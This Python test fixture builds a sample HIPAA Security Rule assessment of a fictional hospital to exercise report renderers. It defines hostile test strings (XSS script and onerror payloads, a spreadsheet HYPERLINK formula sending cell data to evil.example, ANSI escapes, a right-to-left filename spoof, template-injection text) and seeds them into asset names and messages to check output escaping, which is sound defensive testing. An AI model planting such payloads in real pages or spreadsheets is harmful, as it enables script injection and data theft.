"""A rich assessment for the renderers' tests: a hospital with gaps, silence, a failed probe and hostile text."""

from __future__ import annotations

import hashlib
from collections import Counter, defaultdict
from datetime import UTC, datetime, timedelta
from pathlib import Path

import msgspec

from posture.assessment import (
    Assessment,
    Asset,
    AttestationResult,
    BlastRadius,
    CatalogInfo,
    CheckResult,
    ControlCheck,
    ControlResult,
    Coverage,
    DecisionResult,
    EvidenceEntry,
    Extent,
    Gap,
    MethodNotes,
    Observation,
    Organisation,
    ProbeResult,
    RegisterResult,
    Run,
    Segmentation,
    ThresholdValue,
    Unanswered,
    ZoneInfo,
)
from posture.model import Method, Outcome, Severity, Source, Status, Tool
from reports import answered, clinical, segmentation

CATALOG = "hipaa-security-rule"
AS_OF = datetime(2026, 10, 8, 19, 5, tzinfo=UTC)
CRITICAL, HIGH, MEDIUM, LOW = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW

SCRIPT = "<script>alert('owned')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
ANSI = "\x1b[2J\x1b[31mroot\x07 shell"
BIDI = "invoice\u202egpj.exe"
LONG = "A1b2" * 400
LINES = "line one\r\nline two\nline three\u2028line four"
QUOTES = "\"'><svg onload=alert(2)> {{ 7*7 }} {% raw %} </style> ]]> --> &lt;b&gt;"
HOSTILE = (SCRIPT, FORMULA, ANSI, BIDI, LONG, LINES, QUOTES)

ZONES = (
    ZoneInfo(
        id="servers",
        kind="server",
        policy="standard",
        ephi="yes",
        site="Main hospital",
        networks=("10.10.0.0/24",),
        excluded=("10.10.0.66",),
    ),
    ZoneInfo(
        id="clinical", kind="clinical", policy="gentle", ephi="yes", site="Main hospital", networks=("10.20.0.0/23",)
    ),
    ZoneInfo(
        id="devices",
        kind="medical-device",
        policy="import-only",
        ephi="unknown",
        site="Main hospital",
        networks=("10.30.0.0/24",),
    ),
    ZoneInfo(
        id="management",
        kind="management",
        policy="gentle",
        ephi="unknown",
        site="North clinic",
        networks=("10.50.0.0/26",),
    ),
    ZoneInfo(id="guest", kind="guest", policy="gentle", ephi="no", site="North clinic", networks=("10.99.0.0/24",)),
)
SIZES = {"servers": 18, "clinical": 30, "devices": 6, "management": 8, "guest": 6}
PREFIX = {
    "servers": "10.10.0.",
    "clinical": "10.20.0.",
    "devices": "10.30.0.",
    "management": "10.50.0.",
    "guest": "10.99.0.",
}

CLEAN = (
    ("vnc-without-authentication", "VNC is offered without a password", CRITICAL, "Host", 60, 8, ("164.312(d)",)),
    ("ad-asrep-roastable", "A password can be guessed offline (AS-REP)", HIGH, "Account", 203, 0, ("164.312(d)",)),
    ("ad-unconstrained-delegation", "A computer may act as any user", CRITICAL, "Computer", 38, 0, ()),
    ("ups-runtime-short", "A UPS would not last until the generator starts", MEDIUM, "Device", 1, 7, ()),
    ("dicom-cleartext", "Images travel in the clear", HIGH, "Host", 0, 68, ("164.312(e)(2)(ii)",)),
)


def _rows(name: str) -> list[list[str]]:
    lines = (Path(__file__).parent / name).read_text("utf-8").splitlines()
    return [line.split("|") for line in lines if not line.startswith("#")]


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()


def _evidence() -> tuple[EvidenceEntry, ...]:
    start = AS_OF - timedelta(hours=4)
    entries = [
        EvidenceEntry(
            id=_sha(f"nmap {zone.id} {part}"),
            collector="nmap",
            format="nmap-xml",
            outcome="complete",
            payload_sha256=_sha(f"payload {zone.id} {part}"),
            payload_size=48_211 + 977 * part,
            probe=f"nmap-{zone.id}-{part}",
            vantage="scanner-01",
            zone=zone.id,
            targets=zone.networks,
            started=start + timedelta(minutes=9 * part),
            ended=start + timedelta(minutes=9 * part + 6),
            tool=Tool(name="nmap", version="7.93", command=("nmap", "-n", "-sS", *zone.networks), exit=0),
        )
        for zone in ZONES
        if zone.policy != "import-only"
        for part in (1, 2)
    ]
    entries += [
        EvidenceEntry(
            id=_sha(f"nmap devices{part}"),
            collector="nmap",
            format="nmap-xml",
            outcome="complete",
            payload_sha256=_sha(f"import{part}"),
            payload_size=18_120,
            zone="devices",
            targets=("10.30.0.0/24",),
            source=Source(name=f"biomed {SCRIPT}.xml", sha256=_sha("import file")),
        )
        for part in ("", " 2")
    ]
    entries += [
        EvidenceEntry(
            id=_sha("ldap ad-north"),
            collector="ldap",
            format="ldif",
            outcome="complete",
            payload_sha256=_sha("ldif"),
            payload_size=2_481_003,
            probe="ldap-ad-north",
            vantage="scanner-01",
            targets=("10.10.0.10",),
            started=start,
            ended=start + timedelta(minutes=2),
            tool=Tool(name="ldap3", version="2.9.1"),
            masked=("unicodePwd", "ms-Mcs-AdmPwd"),
        ),
        EvidenceEntry(
            id=_sha("ldap ldap-apps"),
            collector="ldap",
            format="ldif",
            outcome="complete",
            payload_sha256=_sha("ldif apps"),
            payload_size=92_810,
            probe="ldap-ldap-apps",
            vantage="scanner-01",
            targets=("10.10.0.31",),
            started=start,
            ended=start + timedelta(minutes=1),
            tool=Tool(name="ldap3", version="2.9.1"),
        ),
        EvidenceEntry(
            id=_sha("ldap ad-main"),
            collector="ldap",
            format="ldif",
            outcome="failed",
            payload_sha256=_sha(""),
            payload_size=0,
            problem="the server stopped answering during the bind",
            probe="ldap-ad-main",
            vantage="scanner-01",
            targets=("10.10.0.11",),
            started=start,
            ended=start + timedelta(seconds=31),
        ),
    ]
    entries += [
        EvidenceEntry(
            id=_sha(f"snmp {zone} {part}"),
            collector="snmp",
            format="snmprec",
            outcome="partial" if zone == "management" and part == 2 else "complete",
            payload_sha256=_sha(f"snmprec {zone} {part}"),
            payload_size=9_114,
            probe=f"snmp-{zone}-{part}",
            vantage="scanner-02" if zone == "management" else "scanner-01",
            zone=zone,
            targets=(f"{PREFIX[zone]}{part}0-{part}9",),
            started=start,
            ended=start + timedelta(minutes=3),
            tool=Tool(name="gufo-snmp", version="0.13.0"),
        )
        for zone in ("management", "servers")
        for part in (1, 2)
    ]
    return tuple(sorted(entries, key=lambda entry: entry.id))


def _assets() -> list[Asset]:
    assets = []
    for zone in ZONES:
        for at in range(1, SIZES[zone.id] + 1):
            address = f"{PREFIX[zone.id]}{at + 9}"
            assets.append(
                Asset(
                    key=f"address:{zone.id}/{address}",
                    name=f"{zone.id}-{at:02}.stmary.example",
                    kind="Device" if zone.id == "management" or (zone.id == "servers" and at > 14) else "Host",
                    ids=(f"address:{zone.id}/{address}",),
                    addresses=(address,),
                    mac=f"00:50:56:{at:02x}:aa:{len(zone.id):02x}",
                    vendor="VMware, Inc.",
                    place=zone.id,
                    ephi=zone.ephi,
                    open_ports=("22/tcp ssh", "443/tcp https", "445/tcp microsoft-ds")[: at % 4],
                    evidence=(_sha("nmap devices"),) if zone.id == "devices" else (_sha(f"nmap {zone.id} 1"),),
                )
            )
    assets += [
        Asset(
            key=f"name:device/{text}",
            name=text,
            kind="Host",
            ids=(f"name:device/{text}",),
            addresses=("10.20.1.7",),
            vendor=text,
            description=text,
            place="clinical",
            ephi="yes",
            open_ports=(f"80/tcp {text}",),
            evidence=(_sha("nmap clinical 2"),),
        )
        for text in HOSTILE
    ]
    return assets


def _subjects(kind: str, places: tuple[str, ...], assets: list[Asset]) -> list[tuple[str, str, str, str]]:
    """(key, name, place, ephi) of what a check over this kind would judge."""
    if kind in {"Account", "Computer"}:
        return [(f"guid:{_sha(f'{kind}{at}')[:32]}", f"{kind.lower()}{at:03}", "ad-north", "yes") for at in range(203)]
    if kind == "Directory":
        names = (*places, "ad-north", "ad-main")
        return [(f"name:directory/{name}", name, name, "unknown") for name in names]
    found = [asset for asset in assets if kind != "Device" or asset.kind == "Device"]
    found.sort(key=lambda asset: (asset.place not in places, asset.key))
    return [(asset.key, asset.name, asset.place, asset.ephi) for asset in found]


def _source_of(kind: str, place: str) -> tuple[str, ...]:
    if kind in {"Account", "Computer"}:
        return (_sha("ldap ad-north"),)
    if kind == "Directory":
        return (_sha("ldap ldap-apps"),)
    if kind == "Device" and place in {"management", "servers"}:
        return (_sha(f"snmp {place} 1"),)
    return (_sha("nmap devices"),) if place == "devices" else (_sha(f"nmap {place} 1"), _sha(f"nmap {place} 2"))


def _single(  # noqa: PLR0913, PLR0917  # one argument for each field that differs
    check: str,
    severity: Severity,
    outcome: Outcome,
    kind: str,
    subject: tuple[str, str, str, str],
    message: str,
    answer: str = "",
) -> Observation:
    key, name, place, ephi = subject
    return Observation(
        id=_sha(f"{check}|{key}")[:16],
        check=check,
        severity=severity,
        outcome=outcome,
        subject=key,
        subject_name=name,
        subject_kind=kind,
        place=place,
        ephi=ephi,
        message=message,
        answer=answer,
        evidence=_source_of(kind, place) if outcome is not Outcome.UNKNOWN or kind == "Host" else (),
    )


def _counted(
    check: str, severity: Severity, outcome: Outcome, kind: str, subjects: list[tuple[str, str, str, str]]
) -> Observation:
    return Observation(
        check=check,
        severity=severity,
        outcome=outcome,
        subject_kind=kind,
        count=len(subjects),
        subjects=tuple(sorted(key for key, *_ in subjects)),
        evidence=tuple(sorted({digest for _, _, place, _ in subjects for digest in _source_of(kind, place)})),
    )


def _judged(assets: list[Asset], extra: int) -> tuple[list[Gap], list[CheckResult], list[Observation]]:
    gaps, checks, observations = [], [], []
    for check, title, level, kind, place, *numbers, contradicts, supported, why, fix, message in _rows("gaps.txt"):
        severity, hits, supports = Severity(level), tuple(contradicts.split()), tuple(supported.split())
        failed, passed, unknown = (int(text) for text in numbers)
        subjects = _subjects(kind, tuple(place.split()), assets)
        if check == "telnet-offered":
            subjects.sort(key=lambda subject: not subject[0].startswith("name:device/"))
        if check == "smb-signing-not-required":
            many = [
                (f"address:clinical/10.21.{at // 250}.{at % 250}", f"ward-{at:05}", "clinical", "yes")
                for at in range(extra)
            ]
            subjects, failed = many + subjects, failed + extra
        fails = [
            _single(
                check,
                severity,
                Outcome.FAIL,
                kind,
                subject,
                f"{message}: {subject[1]}" if subject[1] in HOSTILE else message,
            )
            for subject in subjects[:failed]
        ]
        good = subjects[failed : failed + passed]
        unknowns = [
            _single(
                check,
                severity,
                Outcome.UNKNOWN,
                kind,
                subject,
                "the port is filtered, so whether it answers is not known",
                "scan from inside the zone",
            )
            for subject in subjects[failed + passed : failed + passed + unknown]
        ]
        errors = []
        if check == "device-owner-missing":
            errors = [_single(check, severity, Outcome.ERROR, kind, subjects[-1], f"ValueError: {QUOTES!r}")]
            unknowns.pop()
        observations += fails + unknowns + errors
        if good:
            observations.append(_counted(check, severity, Outcome.PASS, kind, good))
        gaps.append(
            Gap(
                check=check,
                title=title,
                severity=severity,
                kind=kind,
                failed=len(fails),
                judged=len(fails) + len(good),
                why=why,
                fix=fix,
                unknown=len(unknowns) + len(errors),
                without_ephi=sum(each.ephi == "no" for each in fails),
                contradicts=hits,
                supports=supports,
                places=tuple(sorted({each.place for each in fails})),
                observations=tuple(each.id for each in fails),
            )
        )
        checks.append(
            CheckResult(
                id=check,
                title=title,
                severity=severity,
                kind=kind,
                summary=f"Nothing has this problem: {title.lower()}.",
                why=why,
                fix=fix,
                sources="NIST SP 800-66r2; HPH CPG.",
                passed=len(good),
                failed=len(fails),
                unknown=len(unknowns),
                errors=len(errors),
                controls=(*hits, *supports),
            )
        )
    for check, title, severity, kind, passed, not_applicable, controls in CLEAN:
        subjects = _subjects(kind, ("servers",), assets)
        good, beside = subjects[:passed], subjects[passed : passed + not_applicable]
        observations += [
            _counted(check, severity, outcome, kind, members)
            for outcome, members in ((Outcome.PASS, good), (Outcome.NOT_APPLICABLE, beside))
            if members
        ]
        errors = []
        if check == "ups-runtime-short":
            errors = [
                _single(check, severity, Outcome.ERROR, kind, subjects[-1], f"ValueError: invalid literal {QUOTES!r}")
            ]
            observations += errors
        checks.append(
            CheckResult(
                id=check,
                title=title,
                severity=severity,
                kind=kind,
                summary=f"Nothing has this problem: {title.lower()}.",
                why="See the check’s page.",
                fix="See the check’s page.",
                passed=len(good),
                not_applicable=len(beside),
                errors=len(errors),
                controls=controls,
            )
        )
    return gaps, sorted(checks, key=lambda each: each.id), observations


_METHODS = {"T": Method.TEST, "E": Method.EXAMINE, "I": Method.INTERVIEW}
_FAMILIES = {
    "164.308": "administrative",
    "164.310": "physical",
    "164.312": "technical",
    "164.314": "organizational",
    "164.316": "documentation",
}
_SET = {
    "164.308(a)(4)(ii)(A)": (Status.NOT_APPLICABLE, "Not part of an organisation that includes a clearinghouse."),
    "164.308(a)(2)": (
        Status.SATISFIED,
        "Attested on 2 March 2026 by the compliance officer; valid until 2 March 2027.",
    ),
    "164.310(d)(2)(iii)": (
        Status.SATISFIED_BY_ALTERNATIVE,
        "Movements are recorded by the logistics system instead; decision of 4 May 2026.",
    ),
    "164.308(a)(5)(ii)(D)": (
        Status.RISK_ACCEPTED,
        "12 observations contradict it; the risk is accepted until 31 December 2026.",
    ),
}


def _controls(gaps: list[Gap], observations: list[Observation]) -> list[ControlResult]:
    rows = _rows("controls.txt")
    against: defaultdict[str, list[str]] = defaultdict(list)
    bearing: defaultdict[str, list[ControlCheck]] = defaultdict(list)
    by_check: defaultdict[str, list[str]] = defaultdict(list)
    for each in observations:
        if each.outcome is Outcome.FAIL and each.ephi != "no":
            by_check[each.check].append(each.id)
    for gap in gaps:
        for control in gap.contradicts:
            against[control] += by_check[gap.check]
            bearing[control].append(ControlCheck(check=gap.check, bearing="contradicts"))
        for control in gap.supports:
            bearing[control].append(ControlCheck(check=gap.check, bearing="supports"))
    failing = {parent for id_, _, parent, *_ in rows if against[id_] and id_ not in _SET}
    controls = [
        ControlResult(
            catalog=CATALOG,
            id="164.306(a)(1)",
            title="Protect confidentiality, integrity, availability",
            kind="general_rule",
            family="general",
            status=Status.NOT_ASSESSED,
            reason="A general rule that every other provision serves; it is not counted.",
            counted=False,
        )
    ]
    for id_, level, parent, methods, title, text in rows:
        wanted = tuple(_METHODS[letter] for letter in methods)
        missing = tuple(method for method in wanted if method is not Method.TEST)
        status, reason = Status.NOT_ASSESSED, "No attestation yet. Policies have to be examined and people interviewed."
        if id_ in failing:
            status, reason = Status.NOT_SATISFIED, "A specification of this standard is not satisfied."
        if against[id_]:
            status, reason = Status.NOT_SATISFIED, f"{len(against[id_])} observations contradict it."
        status, reason = _SET.get(id_, (status, reason))
        controls.append(
            ControlResult(
                catalog=CATALOG,
                id=id_,
                title=title,
                kind="standard" if level == "S" else "implementation_specification",
                family=_FAMILIES[id_[:7]],
                status=status,
                reason=reason,
                requirement=None if level == "S" else level,
                parent=parent,
                text=text,
                note="The Appendix A matrix prints no marker here." if id_ == "164.308(a)(3)(ii)(B)" else "",
                methods=wanted,
                missing_methods=() if status is Status.SATISFIED else missing,
                checks=tuple(bearing[id_]),
                observations=tuple(against[id_]),
            )
        )
    return controls


def _probes(evidence: tuple[EvidenceEntry, ...]) -> tuple[ProbeResult, ...]:
    done = [
        ProbeResult(
            id=entry.probe or "biomed.xml",
            collector=entry.collector,
            outcome=entry.outcome,
            zone=entry.zone,
            problem=(
                "The directory ad-main stopped answering during the bind; nothing was read from it."
                if entry.outcome == "failed"
                else "2 of 10 devices stopped answering and were left alone."
                if entry.outcome == "partial"
                else ""
            ),
            targets=entry.targets,
            evidence=(entry.id,),
        )
        for entry in evidence
    ]
    done.append(
        ProbeResult(
            id="nmap-devices-1",
            collector="nmap",
            outcome="refused",
            zone="devices",
            problem="The policy of the zone devices is import-only: nothing was sent there.",
            targets=("10.30.0.0/24",),
        )
    )
    return tuple(sorted(done, key=lambda probe: probe.id))


def _with_counts(assets: list[Asset], observations: list[Observation]) -> tuple[Asset, ...]:
    tally = Counter((each.subject, each.outcome) for each in observations)
    return tuple(
        Asset(
            **{field: getattr(asset, field) for field in asset.__struct_fields__ if field not in {"failed", "unknown"}},
            failed=tally[asset.key, Outcome.FAIL],
            unknown=tally[asset.key, Outcome.UNKNOWN] + tally[asset.key, Outcome.ERROR],
        )
        for asset in assets
    )


def sample_assessment(*, extra_subjects: int = 0, hostile_organisation: bool = False) -> Assessment:
    """St. Mary's: 5 zones, 14 gaps, 72 controls, and as many more failing hosts as asked for."""
    assets = _assets()
    judged, checks, observations = _judged(assets, extra_subjects)
    scanned = _controls(judged, observations)
    evidence = _evidence()
    attestations = answered.attestations(scanned, HOSTILE)
    exceptions = answered.exceptions(observations, HOSTILE)
    gaps = answered.accepted_gaps(judged, exceptions)
    controls = answered.answered_controls(scanned, attestations, exceptions)
    frameworks = clinical.frameworks(HOSTILE)
    counted = [control for control in controls if control.counted]
    assessed = sum(control.status is not Status.NOT_ASSESSED for control in counted)
    return Assessment(
        run=Run(
            id="2026-10-08-1905-k3f9",
            started=AS_OF - timedelta(hours=4),
            ended=AS_OF,
            operator="j.alvarez",
            host="scanner-01",
            command="posture audit --live",
        ),
        organisation=Organisation(
            name=f"St. Mary’s Regional Hospital{SCRIPT + BIDI if hostile_organisation else ''}",
            time_zone="America/Chicago",
            sites=("Main hospital", "North clinic"),
            zones=ZONES,
            directories=("ad-main", "ad-north", "ldap-apps"),
        ),
        method=MethodNotes(
            as_of=AS_OF,
            version="0.1.0",
            statement="This report is evidence toward compliance, and not a finding of it.",
            scope_sha256=_sha("scope"),
            catalogs=(
                CatalogInfo(
                    id=CATALOG,
                    title="HIPAA Security Rule (45 CFR Part 164 Subpart C)",
                    status="in force",
                    as_of="Codified text with no amendment of Subpart C after 24 November 2020",
                    source="45 CFR 164.302–164.316",
                ),
                *(framework.catalog for framework in frameworks),
            ),
            ledger_position=56,
            thresholds=(
                ThresholdValue(
                    name="inactive_days",
                    value=90,
                    default=90,
                    description="Days without a log-in after which an account is stale. Default 90; CIS Controls: 45.",
                ),
                ThresholdValue(
                    name="password_min_length",
                    value=14,
                    default=8,
                    description="Shortest password allowed. Default 8: NIST SP 800-63B 5.1.1.2; PingCastle.",
                ),
            ),
            check_files=tuple(
                Source(name=name, sha256=_sha(name))
                for name in ("devices/snmp.py", "directory/accounts.py", "network/smb.py", "network/telnet.py")
            ),
            limits=(
                "A version that a service states is a claim, not a fact.",
                "Addresses name a machine only for as long as it keeps them.",
            ),
        ),
        coverage=Coverage(
            extents=(
                Extent(name="addresses", looked_at=896, of=1152, note="256 stand in a zone that is import-only"),
                Extent(name="hosts that answered", looked_at=len(assets)),
                Extent(name="directories", looked_at=2, of=3, note="ad-main could not be read"),
                Extent(name="accounts", looked_at=203, of=None, note="ad-main’s accounts are not known"),
                Extent(name="devices", looked_at=8, of=12),
                Extent(name="controls", looked_at=assessed, of=len(counted)),
            ),
            families=answered.families(controls),
            answered=answered.answered_counts(controls),
            probes=_probes(evidence),
            unanswered=(
                Unanswered(
                    what="probe",
                    id="ldap-ad-main",
                    name="ad-main",
                    why="The directory ad-main stopped answering during the bind.",
                    answer="Run `posture audit --resume` when it is back.",
                ),
                Unanswered(
                    what="probe",
                    id="nmap-devices-1",
                    name="devices",
                    why="The policy of the zone devices is import-only.",
                    answer="Import a scan of clinical engineering’s own.",
                ),
                Unanswered(
                    what="check",
                    id="ups-battery-failing",
                    name="A UPS battery is failing",
                    why="No device showed UPS-MIB.",
                    answer="Give SNMP credentials for the UPS.",
                ),
                Unanswered(
                    what="subject",
                    id=f"name:device/{QUOTES}",
                    name=QUOTES,
                    why=f"It did not answer. {ANSI}",
                    answer=BIDI,
                ),
            ),
        ),
        controls=controls,
        gaps=gaps,
        checks=tuple(checks),
        observations=tuple(observations),
        assets=_with_counts(assets, observations),
        evidence=evidence,
        frameworks=frameworks,
        risks=answered.risks(gaps, HOSTILE),
        exceptions=exceptions,
        attestations=attestations,
        decisions=answered.decisions(scanned, HOSTILE),
        risk_analysis=answered.risk_analysis(HOSTILE),
        register=answered.register(HOSTILE),
        practices=answered.practices(HOSTILE),
        services=clinical.services(HOSTILE),
        blast_radius=clinical.blast_radius(HOSTILE),
        segmentation=segmentation.segmentation(
            [zone.id for zone in ZONES],
            [asset.key for asset in assets[:2]] + [f"name:device/{QUOTES}", f"name:device/{BIDI}"],
            [entry.id for entry in evidence[:2]],
        ),
    )


def scanned_only() -> Assessment:
    """The same hospital before anybody has answered, declared or decided anything: scans alone."""
    whole = sample_assessment()
    observations = list(whole.observations)
    gaps = [msgspec.structs.replace(gap, accepted=0, exceptions=(), risk="") for gap in whole.gaps]
    bare = [
        msgspec.structs.replace(
            control, status=Status.NOT_SATISFIED if control.observations else Status.NOT_ASSESSED, reason="Scans alone."
        )
        for control in _controls(gaps, observations)
    ]
    controls = [
        msgspec.structs.replace(control, answered="tested" if control.checks else "nothing") for control in bare
    ]
    return msgspec.structs.replace(
        whole,
        method=msgspec.structs.replace(whole.method, catalogs=whole.method.catalogs[:1], ledger_position=0),
        coverage=msgspec.structs.replace(
            whole.coverage, families=answered.families(controls), answered=answered.answered_counts(controls)
        ),
        controls=tuple(controls),
        gaps=tuple(gaps),
        frameworks=(),
        risks=(),
        exceptions=(),
        attestations=tuple(
            AttestationResult(catalog=each.catalog, control=each.control, title=each.title, question=each.question)
            for each in whole.attestations
            if each.party in {"", answered.SITES[0], answered.ENTITIES[0]}
        ),
        decisions=tuple(
            DecisionResult(catalog=each.catalog, control=each.control, title=each.title) for each in whole.decisions
        ),
        risk_analysis=None,
        register=RegisterResult(),
        practices=(),
        services=(),
        blast_radius=BlastRadius(),
        segmentation=Segmentation(),
    )
